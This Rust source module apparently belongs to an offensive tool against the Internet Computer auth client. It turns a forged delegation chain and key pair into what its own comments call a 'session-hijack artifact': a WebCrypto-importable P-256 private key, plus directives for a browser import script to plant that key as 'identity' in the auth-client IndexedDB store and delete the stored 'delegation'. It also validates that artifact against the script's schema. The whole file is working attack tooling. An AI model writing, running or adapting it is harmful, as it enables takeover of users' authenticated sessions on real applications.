//! Export generator
//!
//! Turns a forgery result into the artifact consumed by the browser-side
//! import script: a WebCrypto-importable P-256 JWK plus directives for the
//! auth client's IndexedDB key-value store (put the key under `identity`,
//! delete any stored `delegation` so the app re-derives its session).
//!
//! Field names and shapes here are a contract with that script.

mod script;

pub use script::render_import_script;

use std::collections::VecDeque;

use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine};
use chrono::{DateTime, Utc};
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use zeroize::Zeroize;

use crate::crypto::KeyPair;
use crate::delegation::{self, Curve};
use crate::error::ExportError;
use crate::forgery::ForgeryResult;

/// IndexedDB database used by the IC auth client
pub const AUTH_CLIENT_DATABASE: &str = "auth-client-db";

/// Object store inside [`AUTH_CLIENT_DATABASE`]
pub const AUTH_CLIENT_STORE: &str = "ic-keyval";

pub const IDENTITY_ENTRY: &str = "identity";
pub const DELEGATION_ENTRY: &str = "delegation";

const COORDINATE_LEN: usize = 32;

/// An EC private key in JWK form. `d` is wiped on drop.
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct JwkKey {
    pub kty: String,
    pub crv: String,
    pub x: String,
    pub y: String,
    pub d: String,
    pub key_ops: Vec<String>,
    pub ext: bool,
}

impl JwkKey {
    pub fn from_key_pair(key: &KeyPair) -> Result<Self, ExportError> {
        let point = key.public_key();
        if point.len() != 1 + 2 * COORDINATE_LEN || point[0] != 0x04 {
            return Err(ExportError::KeyMaterial(
                "public key is not an uncompressed P-256 point".into(),
            ));
        }

        let scalar = key.private_key();
        if scalar.len() > COORDINATE_LEN {
            return Err(ExportError::KeyMaterial("private scalar is too long".into()));
        }
        let mut padded = [0u8; COORDINATE_LEN];
        padded[COORDINATE_LEN - scalar.len()..].copy_from_slice(scalar);
        let d = URL_SAFE_NO_PAD.encode(padded);
        padded.zeroize();

        Ok(Self {
            kty: "EC".into(),
            crv: key.curve().jwk_name().into(),
            x: URL_SAFE_NO_PAD.encode(&point[1..1 + COORDINATE_LEN]),
            y: URL_SAFE_NO_PAD.encode(&point[1 + COORDINATE_LEN..]),
            d,
            key_ops: vec!["sign".into()],
            ext: true,
        })
    }
}

impl Drop for JwkKey {
    fn drop(&mut self) {
        self.d.zeroize();
    }
}

impl std::fmt::Debug for JwkKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("JwkKey")
            .field("crv", &self.crv)
            .field("x", &self.x)
            .field("y", &self.y)
            .field("d", &"<redacted>")
            .finish()
    }
}

/// WebCrypto `importKey` algorithm parameters
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ImportAlgorithm {
    pub name: String,
    #[serde(rename = "namedCurve")]
    pub named_curve: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PutDirective {
    pub identity: JwkKey,
}

/// What the import script does to the client-side key-value store
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StorageDirectives {
    pub database: String,
    pub store: String,
    pub put: PutDirective,
    pub delete: Vec<String>,
}

/// The session-hijack artifact
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ExportArtifact {
    pub key: JwkKey,
    pub algorithm: ImportAlgorithm,
    pub extractable: bool,
    pub usages: Vec<String>,
    pub storage: StorageDirectives,
    /// Forged chain in its original wire shape
    pub delegation: Value,
    pub fingerprint: String,
    pub issued_at: DateTime<Utc>,
}

impl ExportArtifact {
    pub fn to_json_pretty(&self) -> String {
        serde_json::to_string_pretty(self).unwrap_or_default()
    }

    /// Re-check this artifact against the import script's schema
    pub fn validate(&self) -> Result<(), ExportError> {
        let value = serde_json::to_value(self)
            .map_err(|e| ExportError::schema("artifact", e.to_string()))?;
        validate_artifact(&value)
    }
}

/// Build the artifact for one forgery
pub fn export(result: &ForgeryResult<'_>) -> Result<ExportArtifact, ExportError> {
    let key = JwkKey::from_key_pair(result.key)?;
    let fingerprint = result
        .key
        .origin()
        .map(|f| f.to_string())
        .unwrap_or_default();

    Ok(ExportArtifact {
        algorithm: ImportAlgorithm {
            name: "ECDSA".into(),
            named_curve: result.key.curve().jwk_name().into(),
        },
        extractable: true,
        usages: vec!["sign".into()],
        storage: StorageDirectives {
            database: AUTH_CLIENT_DATABASE.into(),
            store: AUTH_CLIENT_STORE.into(),
            put: PutDirective {
                identity: key.clone(),
            },
            delete: vec![DELEGATION_ENTRY.into()],
        },
        key,
        delegation: result.forged.to_json_value(),
        fingerprint,
        issued_at: Utc::now(),
    })
}

/// Check an artifact (as JSON) has exactly the shape the import script needs
pub fn validate_artifact(artifact: &Value) -> Result<(), ExportError> {
    let key = artifact
        .get("key")
        .ok_or_else(|| ExportError::schema("key", "missing"))?;
    validate_jwk(key)?;

    expect_str(artifact, "algorithm.name", &["algorithm", "name"], "ECDSA")?;
    expect_str(artifact, "algorithm.namedCurve", &["algorithm", "namedCurve"], "P-256")?;
    if artifact.get("extractable") != Some(&Value::Bool(true)) {
        return Err(ExportError::schema("extractable", "must be true"));
    }
    if artifact.get("usages") != Some(&serde_json::json!(["sign"])) {
        return Err(ExportError::schema("usages", "must be [\"sign\"]"));
    }

    expect_str(artifact, "storage.database", &["storage", "database"], AUTH_CLIENT_DATABASE)?;
    expect_str(artifact, "storage.store", &["storage", "store"], AUTH_CLIENT_STORE)?;
    if lookup(artifact, &["storage", "put", IDENTITY_ENTRY]) != Some(key) {
        return Err(ExportError::schema(
            "storage.put.identity",
            "must hold the exported key",
        ));
    }
    let deletes_delegation = lookup(artifact, &["storage", "delete"])
        .and_then(Value::as_array)
        .is_some_and(|entries| entries.iter().any(|e| e == DELEGATION_ENTRY));
    if !deletes_delegation {
        return Err(ExportError::schema(
            "storage.delete",
            "must remove the stored delegation",
        ));
    }

    let chain = artifact
        .get("delegation")
        .ok_or_else(|| ExportError::schema("delegation", "missing"))?;
    delegation::parse(chain.to_string().as_bytes())
        .map_err(|e| ExportError::schema("delegation", e.to_string()))?;

    Ok(())
}

fn validate_jwk(key: &Value) -> Result<(), ExportError> {
    expect_str(key, "key.kty", &["kty"], "EC")?;
    let crv = key
        .get("crv")
        .and_then(Value::as_str)
        .ok_or_else(|| ExportError::schema("key.crv", "missing"))?;
    if crv != Curve::P256.jwk_name() {
        return Err(ExportError::schema("key.crv", format!("'{}' is not P-256", crv)));
    }

    let x = coordinate(key, "x")?;
    let y = coordinate(key, "y")?;
    let d = zeroize::Zeroizing::new(coordinate(key, "d")?);

    let ops_sign = key
        .get("key_ops")
        .and_then(Value::as_array)
        .is_some_and(|ops| ops.iter().any(|op| op == "sign"));
    if !ops_sign {
        return Err(ExportError::schema("key.key_ops", "must allow \"sign\""));
    }
    if key.get("ext") != Some(&Value::Bool(true)) {
        return Err(ExportError::schema("key.ext", "must be true"));
    }

    let mut point = Vec::with_capacity(1 + 2 * COORDINATE_LEN);
    point.push(0x04);
    point.extend_from_slice(&x);
    point.extend_from_slice(&y);
    let public = p256::PublicKey::from_sec1_bytes(&point)
        .map_err(|_| ExportError::schema("key.x", "(x, y) is not a point on P-256"))?;
    let secret = p256::SecretKey::from_slice(&d)
        .map_err(|_| ExportError::schema("key.d", "not a valid P-256 scalar"))?;
    if secret.public_key() != public {
        return Err(ExportError::schema("key.d", "does not match the public coordinates"));
    }

    Ok(())
}

fn coordinate(key: &Value, name: &str) -> Result<Vec<u8>, ExportError> {
    let field = format!("key.{}", name);
    let encoded = key
        .get(name)
        .and_then(Value::as_str)
        .ok_or_else(|| ExportError::schema(&field, "missing"))?;
    let bytes = URL_SAFE_NO_PAD
        .decode(encoded)
        .map_err(|_| ExportError::schema(&field, "not base64url without padding"))?;
    if bytes.len() != COORDINATE_LEN {
        return Err(ExportError::schema(
            &field,
            format!("expected {} bytes, got {}", COORDINATE_LEN, bytes.len()),
        ));
    }
    Ok(bytes)
}

fn lookup<'v>(value: &'v Value, path: &[&str]) -> Option<&'v Value> {
    path.iter().try_fold(value, |v, segment| v.get(segment))
}

fn expect_str(value: &Value, field: &str, path: &[&str], expected: &str) -> Result<(), ExportError> {
    match lookup(value, path).and_then(Value::as_str) {
        Some(actual) if actual == expected => Ok(()),
        Some(actual) => Err(ExportError::schema(
            field,
            format!("expected '{}', found '{}'", expected, actual),
        )),
        None => Err(ExportError::schema(field, "missing")),
    }
}

/// Bounded history of generated artifacts, newest last
pub struct ArtifactLog {
    artifacts: Mutex<VecDeque<ExportArtifact>>,
    max_artifacts: usize,
}

impl ArtifactLog {
    pub fn new(max_artifacts: usize) -> Self {
        Self {
            artifacts: Mutex::new(VecDeque::new()),
            max_artifacts,
        }
    }

    pub fn push(&self, artifact: ExportArtifact) {
        let mut artifacts = self.artifacts.lock();
        artifacts.push_back(artifact);
        while artifacts.len() > self.max_artifacts {
            artifacts.pop_front();
        }
    }

    pub fn latest(&self) -> Option<ExportArtifact> {
        self.artifacts.lock().back().cloned()
    }

    /// Most recent artifact issued for a fingerprint
    pub fn find(&self, fingerprint: &str) -> Option<ExportArtifact> {
        self.artifacts
            .lock()
            .iter()
            .rev()
            .find(|a| a.fingerprint == fingerprint)
            .cloned()
    }

    pub fn get_all(&self) -> Vec<ExportArtifact> {
        self.artifacts.lock().iter().cloned().collect()
    }

    pub fn len(&self) -> usize {
        self.artifacts.lock().len()
    }

    pub fn is_empty(&self) -> bool {
        self.artifacts.lock().is_empty()
    }

    pub fn clear(&self) {
        self.artifacts.lock().clear();
    }
}

impl Default for ArtifactLog {
    fn default() -> Self {
        Self::new(50)
    }
}
